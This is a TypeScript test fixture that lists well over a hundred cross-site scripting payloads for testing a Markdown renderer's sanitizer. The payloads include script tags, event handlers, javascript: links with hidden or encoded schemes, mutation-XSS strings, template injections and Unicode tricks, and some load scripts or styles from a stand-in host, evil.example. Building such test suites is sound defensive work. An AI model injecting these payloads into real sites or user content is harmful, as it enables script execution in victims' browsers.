// Comment texts that try to get script, styles or dangerous links into a page.
// The Markdown renderer's tests run every one of them, and browser tests can
// post them as comments and check that nothing runs. Each is at most 2,000
// characters, so that it fits in a comment twice.

const deepNesting = (open: string, close: string, depth: number, inner: string) =>
  open.repeat(depth) + inner + close.repeat(depth);

export const XSS_PAYLOADS: string[] = [
  // Raw HTML: script, event handlers, embedded documents, styles.
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  '<IMG SRC="javascript:alert(1);">',
  "<img src=`x`onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<body onload=alert(1)>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0;z-index:9999">covering the page</p>',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  "<style>body{display:none}</style>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<a href="javascript:alert(1)">click</a>',
  '<a href="https://example.com" onclick="alert(1)">click</a>',
  '<A HREF="jav&#x09;ascript:alert(1)">click</A>',
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea><script>alert(1)</script></textarea>",
  "<xmp><script>alert(1)</script></xmp>",

  // Mutation tricks that rely on how a parser re-reads serialised HTML.
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><style></noscript><img src=x onerror=alert(1)>",

  // Comments, CDATA and other markup that is not an element.
  "<!--><script>alert(1)</script>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml version="1.0"?><script>alert(1)</script>',
  "<!DOCTYPE html><script>alert(1)</script>",

  // Breaking out of an attribute or a tag.
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '[x](https://example.com/"onmouseover="alert(1))',
  '[x](https://example.com/ "title\\" onmouseover=\\"alert(1)")',
  '[x](<https://example.com/"><script>alert(1)</script>>)',

  // Markdown links to scripts, with the scheme hidden in various ways.
  "[x](javascript:alert(1))",
  "[x](JavaScript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](javascript&#x3A;alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](javascript%3Aalert(1))",
  "[x](<java script:alert(1)>)",
  "[x](<javascript :alert(1)>)",
  "[x](java\tscript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](<java\nscript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](\u0000javascript:alert(1))",
  "[x](<\u0020javascript:alert(1)>)",
  "[x](\u00a0javascript:alert(1))",
  "[x](javascript\u200b:alert(1))",
  "[x](javascript://%0aalert(1))",
  "[x](javascript://example.com/%0Aalert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](VBScript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](DATA:text/html,alert)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/x)",
  "[x](\\\\evil.example\\x)",
  "[x](https:evil.example)",
  "[x](/\\evil.example)",
  "[x]( javascript:alert(1) )",
  '[x](javascript:alert(1) "title")',
  "[x]: javascript:alert(1)\n\n[x]",
  "[click][ref]\n\n[ref]: javascript:alert(1)",
  "[click][ref]\n\n[ref]: <data:text/html,<script>alert(1)</script>>",
  "[click]\n\n[CLICK]: vbscript:msgbox(1)",
  "[**bold** and *italic*](javascript:alert(1))",
  "[x](https://example.com/)[y](javascript:alert(1))",

  // Autolinks.
  "<javascript:alert(1)>",
  "<JAVASCRIPT:alert(1)>",
  "<data:text/html,alert(1)>",
  "<vbscript:msgbox(1)>",
  "<javascript&#58;alert(1)>",
  "javascript:alert(1)",
  "www.evil.example/javascript:alert(1)",

  // Images, with and without handlers.
  "![x](x onerror=alert(1))",
  '![x](https://example.com/x.png"onerror="alert(1))',
  "![x](javascript:alert(1))",
  "![<img src=x onerror=alert(1)>](https://example.com/x.png)",
  "[![x](https://example.com/x.png)](javascript:alert(1))",
  "![x][img]\n\n[img]: https://example.com/x.png",

  // Code that should stay text.
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "    <script>alert(1)</script>",
  "# <img src=x onerror=alert(1)>",

  // Strings aimed at templates rendered elsewhere.
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<%= alert(1) %>",
  "{{7*7}}[x](javascript:alert(1))",

  // Unicode tricks: right-to-left override, full-width and look-alike characters.
  "[x](\u202ejavascript:alert(1))",
  "\u202e>tpircs/<)1(trela>tpircs<",
  "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
  "＜script＞alert(1)＜/script＞",
  "<scrİpt>alert(1)</scrİpt>",
  "[x](https://examp\u0000le.com)",

  // Deep nesting, to find limits in the parser or the sanitizer.
  deepNesting("> ", "", 200, "[x](javascript:alert(1))"),
  deepNesting("[", "](javascript:alert(1))", 80, "x"),
  deepNesting("*", "*", 300, "<img src=x onerror=alert(1)>"),
  deepNesting("<div>", "</div>", 150, "<script>alert(1)</script>"),
  deepNesting("- ", "", 100, "<svg onload=alert(1)>"),
  '<a href="javascript:alert(1)">'.repeat(60),
];
